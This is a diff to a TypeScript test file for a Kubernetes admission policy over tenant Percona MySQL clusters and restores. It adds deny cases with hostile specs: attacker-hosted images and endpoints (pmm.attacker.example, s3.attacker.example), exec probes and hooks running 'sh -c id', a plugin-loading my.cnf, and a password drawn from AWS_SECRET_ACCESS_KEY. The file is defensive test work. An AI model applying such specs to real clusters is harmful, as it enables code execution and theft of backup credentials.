@@ -8,7 +8,10 @@ import { admit } from "../../../tools/offline/admission";
 import { policyPackConfigFile, stackPackConfig } from "../../../tools/offline/policy-config";
 import { readStackConfig } from "../../../tools/offline/stack-files";
 import { MYSQL_OPERATOR_IMAGES } from "../../../charts/images";
-import { PXC_KEY_HOLDING_IMAGES, PXC_TYPES } from "../../../policy/rules/tenancy/mysql-cluster";
+import { PXC_KEY_HOLDING_IMAGES, PXC_POD_SERVICE_ACCOUNT, PXC_RUNTIME_IMAGES, PXC_SANDBOX_CONFIGURATION, PXC_TYPES, PXC_USER_PASSWORD_SECRET } from "../../../policy/rules/tenancy/mysql-cluster";
+import { DATABASE_IMAGES } from "../../../charts/images";
+import { SERVICE_ACCOUNT } from "../../../components/project/common";
+import { DATABASE_SECRET } from "../../../components/project/database";
 import { validateObject } from "../../helpers/k8s-schema";
 import { messagesOf, planned, tenantNamespace } from "../../helpers/policy-fixtures";
 import { ROOT } from "../../helpers/synth";
@@ -38,17 +41,18 @@ const restoreSpec = (changes: Spec) => ({ ...restore.spec, ...changes });
 const source = restore.spec.backupSource as Spec;
 const pitr = restore.spec.pitr as Spec;
 
-function decide(kind: "PerconaXtraDBCluster" | "PerconaXtraDBClusterRestore", objectSpec: Spec): { admission: "admit" | "deny"; pack: "admit" | "deny"; messages: string[] } {
+function decide(kind: "PerconaXtraDBCluster" | "PerconaXtraDBClusterRestore", objectSpec: Spec, name?: string): { admission: "admit" | "deny"; pack: "admit" | "deny"; messages: string[] } {
     const base = kind === "PerconaXtraDBCluster" ? cluster : restore;
-    const object = { ...base, spec: objectSpec };
+    const object = { ...base, metadata: { ...base.metadata, name: name ?? base.metadata.name }, spec: objectSpec };
     const decision = admit(pair.policy, pair.binding, { object, namespaceObject: tenantNamespace("shop").inputs, operation: "CREATE" });
     const reported = messagesOf("tenancy-mysql-cluster", [planned(kind === "PerconaXtraDBCluster" ? PXC_TYPES.cluster : PXC_TYPES.restore, base.metadata.name, object)], pack);
     return { admission: decision.allowed ? "admit" : "deny", pack: reported.length === 0 ? "admit" : "deny", messages: decision.messages };
 }
 
-const CLUSTER_CASES: Array<{ title: string; spec: Spec; expected: "admit" | "deny" }> = [
+const CLUSTER_CASES: Array<{ title: string; spec: Spec; expected: "admit" | "deny"; name?: string }> = [
     { title: "the cluster the program renders", spec: cluster.spec, expected: "admit" },
-    { title: "its next generation, restored", spec: renderMysqlCluster(restored).spec, expected: "admit" },
+    { title: "its next generation, restored", spec: renderMysqlCluster(restored).spec, name: renderMysqlCluster(restored).metadata.name, expected: "admit" },
+    { title: "another generation's system users", spec: cluster.spec, name: renderMysqlCluster(restored).metadata.name, expected: "deny" },
     { title: "a single node", spec: renderMysqlCluster(projectContext(project({ name: "shop", database: { engine: "mysql" } }), config)).spec, expected: "admit" },
     { title: "no backup", spec: spec({ backup: undefined }), expected: "deny" },
     { title: "no schedule", spec: spec({ backup: { ...backup, schedule: [] } }), expected: "deny" },
@@ -70,6 +74,29 @@ const CLUSTER_CASES: Array<{ title: string; spec: Spec; expected: "admit" | "den
     { title: "a user with grants on every schema", spec: spec({ users: [{ name: "admin", grants: ["ALL PRIVILEGES"], passwordSecretRef: { name: "database-credentials", key: "DATABASE_PASSWORD" } }] }), expected: "deny" },
     { title: "TLS off", spec: spec({ tls: { enabled: false }, unsafeFlags: { tls: true, pxcSize: false } }), expected: "deny" },
     { title: "more nodes than the limit", spec: withPart("pxc", { size: 5 }), expected: "deny" },
+    // Review 19, finding 1: the version service chooses the images (the backup image with the keys first).
+    { title: "the version service upgrading to latest", spec: spec({ upgradeOptions: { apply: "latest" } }), expected: "deny" },
+    { title: "a tenant's version service", spec: spec({ upgradeOptions: { apply: "disabled", versionServiceEndpoint: "https://versions.tenant.example" } }), expected: "deny" },
+    { title: "upgrades off, written in capitals", spec: spec({ upgradeOptions: { apply: "Never" } }), expected: "admit" },
+    { title: "a tenant-built node image", spec: withPart("pxc", { image: "registry.platform.internal/shop/pxc:1" }), expected: "deny" },
+    { title: "a tenant HAProxy image", spec: withPart("haproxy", { image: "docker.io/library/haproxy:3.0" }), expected: "deny" },
+    { title: "ProxySQL switched on", spec: withPart("proxysql", { enabled: true, image: "docker.io/percona/proxysql2:2.7.3" }), expected: "deny" },
+    { title: "PMM switched on", spec: spec({ pmm: { enabled: true, image: "ghcr.io/attacker/pmm:1", serverHost: "pmm.attacker.example" } }), expected: "deny" },
+    { title: "the log collector switched on", spec: spec({ logcollector: { enabled: true, configuration: "[INPUT]\n    Name exec\n    Command id\n" } }), expected: "deny" },
+    { title: "an exec liveness probe on the nodes", spec: withPart("pxc", { livenessProbes: { exec: { command: ["sh", "-c", "id"] } } }), expected: "deny" },
+    { title: "an exec readiness probe on HAProxy", spec: withPart("haproxy", { readinessProbes: { exec: { command: ["sh", "-c", "id"] } } }), expected: "deny" },
+    { title: "a lifecycle hook on the nodes", spec: withPart("pxc", { lifecycle: { postStart: { exec: { command: ["sh", "-c", "id"] } } } }), expected: "deny" },
+    { title: "the nodes under a database ServiceAccount", spec: withPart("pxc", { serviceAccountName: "database" }), expected: "deny" },
+    { title: "a tenant my.cnf", spec: withPart("pxc", { configuration: "[mysqld]\nplugin-load-add=x.so\n" }), expected: "deny" },
+    { title: "the sandbox my.cnf the platform renders", spec: withPart("pxc", { configuration: PXC_SANDBOX_CONFIGURATION }), expected: "admit" },
+    { title: "a haproxy.cfg with external checks", spec: withPart("haproxy", { configuration: "global\n  external-check\n" }), expected: "deny" },
+    { title: "the backup Jobs under another ServiceAccount", spec: spec({ backup: { ...backup, serviceAccountName: "database" } }), expected: "deny" },
+    { title: "the operator's system users in the backup Secret", spec: spec({ secretsName: "database-backup-s3" }), expected: "deny" },
+    { title: "the backup Secret mounted as the nodes' TLS", spec: spec({ sslSecretName: "database-backup-s3" }), expected: "deny" },
+    { title: "the backup Secret as the nodes' Vault keyring", spec: withPart("pxc", { vaultSecretName: "database-backup-s3" }), expected: "deny" },
+    { title: "a user on the mysql schema", spec: spec({ users: [{ ...(cluster.spec.users as Spec[])[0], dbs: ["mysql"] }] }), expected: "deny" },
+    { title: "a user on a schema pattern", spec: spec({ users: [{ ...(cluster.spec.users as Spec[])[0], dbs: ["%"] }] }), expected: "deny" },
+    { title: "a user's password from the backup Secret", spec: spec({ users: [{ ...(cluster.spec.users as Spec[])[0], passwordSecretRef: { name: "database-backup-s3", key: "AWS_SECRET_ACCESS_KEY" } }] }), expected: "deny" },
 ];
 
 const RESTORE_CASES: Array<{ title: string; spec: Spec; expected: "admit" | "deny" }> = [
@@ -82,6 +109,8 @@ const RESTORE_CASES: Array<{ title: string; spec: Spec; expected: "admit" | "den
     { title: "from a volume", spec: restoreSpec({ backupSource: { ...source, pvc: { type: "filesystem" } } }), expected: "deny" },
     { title: "binlogs from another project", spec: restoreSpec({ pitr: { ...pitr, backupSource: { s3: { ...pitr.backupSource.s3, bucket: "platform-backups-fsn1/fsn1/caracal/database/binlogs" } } } }), expected: "deny" },
     { title: "with container options", spec: restoreSpec({ containerOptions: { args: { xbcloud: ["--s3-endpoint=https://s3.attacker.example"] } } }), expected: "deny" },
+    { title: "naming an image in its source", spec: restoreSpec({ backupSource: { ...source, image: "ghcr.io/attacker/xtrabackup:1" } }), expected: "deny" },
+    { title: "naming the backup Secret as its source's TLS", spec: restoreSpec({ backupSource: { ...source, sslSecretName: "database-backup-s3" } }), expected: "deny" },
 ];
 
 describe("platform-tenant-mysql (admission twin of tenancy-mysql-cluster)", () => {
@@ -93,8 +122,8 @@ describe("platform-tenant-mysql (admission twin of tenancy-mysql-cluster)", () =
         expect(policyPackConfigFile(pack)["tenancy-mysql-cluster"]).toEqual({ databaseBackupTarget: pack.databaseBackupTarget });
     });
 
-    it.each(CLUSTER_CASES)("cluster, $title: $expected by admission and by the pack", ({ spec: clusterSpec, expected }) => {
-        const outcome = decide("PerconaXtraDBCluster", clusterSpec);
+    it.each(CLUSTER_CASES)("cluster, $title: $expected by admission and by the pack", ({ spec: clusterSpec, expected, name }) => {
+        const outcome = decide("PerconaXtraDBCluster", clusterSpec, name);
         expect(outcome.admission, outcome.messages.join("; ")).toBe(expected);
         expect(outcome.pack).toBe(expected);
     });
@@ -108,5 +137,9 @@ describe("platform-tenant-mysql (admission twin of tenancy-mysql-cluster)", () =
     it("pins the images that hold the backup keys to charts/images.ts (the pack cannot import it)", () => {
         expect([...PXC_KEY_HOLDING_IMAGES.backup].sort()).toEqual(Object.values(MYSQL_OPERATOR_IMAGES.backup).sort());
         expect(PXC_KEY_HOLDING_IMAGES.init).toEqual([`${MYSQL_OPERATOR_IMAGES.operator.repository}:${MYSQL_OPERATOR_IMAGES.operator.tag}`]);
+        expect([...PXC_RUNTIME_IMAGES.pxc].sort()).toEqual(Object.values(DATABASE_IMAGES.mysql).sort());
+        expect(PXC_RUNTIME_IMAGES.haproxy).toEqual([MYSQL_OPERATOR_IMAGES.haproxy]);
+        expect(PXC_POD_SERVICE_ACCOUNT).toBe(SERVICE_ACCOUNT);
+        expect(PXC_USER_PASSWORD_SECRET).toBe(DATABASE_SECRET);
     });
 });
